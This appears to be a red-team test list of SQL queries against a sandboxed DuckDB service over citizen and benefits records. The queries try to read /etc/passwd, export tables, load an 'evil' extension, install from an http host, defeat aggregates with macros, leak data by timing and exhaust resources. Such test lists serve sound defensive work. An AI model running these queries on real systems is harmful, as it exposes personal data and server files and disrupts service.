SELECT * FROM read_csv('/etc/passwd')
-- next --
SELECT count(*) FROM read_csv('/etc/passwd')
-- next --
SELECT content FROM read_text('/etc/passwd')
-- next --
SELECT * FROM '/etc/passwd'
-- next --
SELECT * FROM 'citizens.csv'
-- next --
SELECT * FROM read_json_auto('/etc/passwd')
-- next --
SELECT * FROM sniff_csv('/etc/passwd')
-- next --
SELECT * FROM read_parquet('https://example.com/x.parquet')
-- next --
SELECT * FROM parquet_metadata('/etc/passwd')
-- next --
SELECT content FROM read_text((SELECT path FROM duckdb_databases() WHERE database_name = current_database()))
-- next --
SELECT content FROM read_blob((SELECT path FROM duckdb_databases() LIMIT 1))
-- next --
SELECT count(*) FROM read_blob(getvariable('p'))
-- next --
SET VARIABLE p = (SELECT path FROM duckdb_databases() LIMIT 1)
-- next --
SELECT getvariable('p')
-- next --
SELECT * FROM glob('/*')
-- next --
SELECT * FROM glob('*')
-- next --
COPY citizens TO '/tmp/inviso-redteam.csv'
-- next --
COPY (SELECT * FROM citizens) TO '/tmp/inviso-redteam.parquet' (FORMAT parquet)
-- next --
COPY citizens FROM '/etc/passwd'
-- next --
EXPORT DATABASE '/tmp/inviso-redteam'
-- next --
IMPORT DATABASE '/tmp/inviso-redteam'
-- next --
ATTACH ':memory:' AS m
-- next --
ATTACH '/tmp/inviso-redteam.duckdb' AS e
-- next --
DETACH m
-- next --
USE memory
-- next --
INSTALL httpfs
-- next --
LOAD httpfs
-- next --
FORCE INSTALL httpfs FROM 'http://example.com'
-- next --
LOAD '/tmp/evil.duckdb_extension'
-- next --
SET enable_external_access = true
-- next --
SET lock_configuration = false
-- next --
RESET enable_external_access
-- next --
SET GLOBAL threads = 64
-- next --
PRAGMA enable_profiling
-- next --
PRAGMA disable_optimizer
-- next --
PRAGMA enable_verification
-- next --
PRAGMA table_info('citizens')
-- next --
PRAGMA database_list
-- next --
CALL enable_logging()
-- next --
CALL enable_logging(storage = 'file', storage_path = '/tmp/l')
-- next --
SELECT * FROM duckdb_logs
-- next --
SELECT message FROM duckdb_logs()
-- next --
SELECT * FROM query('SELECT * FROM citizens')
-- next --
SELECT count(*) FROM query('SELECT * FROM ' || 'citizens')
-- next --
SELECT * FROM query(from_base64('U0VMRUNUICogRlJPTSBjaXRpemVucw=='))
-- next --
SELECT * FROM query_table('citizens')
-- next --
SELECT * FROM query_table(['citizens', 'benefits'], true)
-- next --
SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT * FROM citizens'))
-- next --
PREPARE p AS SELECT * FROM citizens
-- next --
EXECUTE p
-- next --
DEALLOCATE p
-- next --
CREATE MACRO count_star() AS 1
-- next --
CREATE TEMP MACRO avg(x) AS string_agg(CAST(x AS VARCHAR), ',')
-- next --
CREATE OR REPLACE TEMP MACRO sum(x) AS max(x)
-- next --
CREATE TEMP MACRO leak(t) AS TABLE SELECT * FROM citizens
-- next --
CREATE TABLE t AS SELECT * FROM citizens
-- next --
CREATE TEMP VIEW v AS SELECT * FROM citizens
-- next --
CREATE SECRET s (TYPE s3, KEY_ID 'x', SECRET 'y')
-- next --
INSERT INTO citizens (person_id, district, gender, birth_date, income) VALUES (1, '端州区', '男', 1990, 1)
-- next --
UPDATE citizens SET income = 0 RETURNING person_id, income
-- next --
DELETE FROM citizens WHERE birth_date = 1900 RETURNING person_id, income
-- next --
DROP TABLE citizens
-- next --
BEGIN TRANSACTION
-- next --
CHECKPOINT
-- next --
VACUUM
-- next --
SELECT sleep_ms(5000)
-- next --
SELECT district, count(*) FROM citizens WHERE sleep_ms(100) IS NULL GROUP BY district
-- next --
SELECT district, sum(sleep_ms(CASE WHEN income > 900000000 THEN 3000 ELSE 0 END)) FROM citizens GROUP BY district
-- next --
SELECT count(*) FROM range(100000000)
-- next --
SELECT count(*) FROM citizens, range(1000000)
-- next --
SELECT a.district, count(*) FROM citizens a CROSS JOIN citizens b GROUP BY a.district
-- next --
SELECT a.district, count(*) FROM citizens a JOIN citizens b ON a.district = b.district GROUP BY a.district
-- next --
SELECT district, sum(length(repeat('x', income))) FROM citizens GROUP BY district
-- next --
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 100000000) SELECT count(*) FROM r
-- next --
SELECT getenv('HOME')
-- next --
SELECT district, count(*) FROM citizens GROUP BY district HAVING getenv('HOME') IS NOT NULL
-- next --
SELECT b.program, count(*) FROM citizens c JOIN benefits b ON c.person_id = c.person_id GROUP BY b.program
-- next --
SELECT a.district, count(*) FROM benefits x JOIN benefits y ON x.person_id = x.person_id JOIN benefits z ON y.person_id = y.person_id JOIN citizens a ON z.person_id = a.person_id GROUP BY a.district
-- next --
SELECT c.district, count(*) FROM citizens c JOIN benefits b ON c.person_id = b.person_id AND b.person_id = b.person_id GROUP BY c.district
